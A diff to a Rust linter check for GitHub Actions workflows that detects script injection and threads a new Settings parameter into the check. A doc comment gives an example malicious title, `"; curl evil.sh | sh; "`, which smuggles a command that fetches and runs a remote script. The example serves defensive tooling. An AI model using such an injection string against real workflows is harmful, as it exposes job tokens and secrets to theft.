@@ -4,7 +4,7 @@
 //! reads it, so a title like `"; curl evil.sh | sh; "` runs with the job's token and secrets.
 //! Passing the value through `env:` and quoting `"$VAR"` makes it data.
 
-use crate::checks::{Check, Hit};
+use crate::checks::{Check, Hit, Settings};
 use crate::formats::github_actions::{Scalar, Workflow, contexts, expressions};
 
 pub const CHECK: Check = Check::github_actions(RULE, check);
@@ -111,7 +111,7 @@ fn matches_with_stars(pattern: &str, path: &str) -> bool {
             .all(|(p, q)| *p == "*" || *q == "*" || p == q)
 }
 
-fn check(workflow: &Workflow<'_>, hits: &mut Vec<Hit>) {
+fn check(workflow: &Workflow<'_>, _: &Settings, hits: &mut Vec<Hit>) {
     let dispatch = DispatchInputs::of(workflow);
     for job in &workflow.jobs {
         for step in &job.steps {
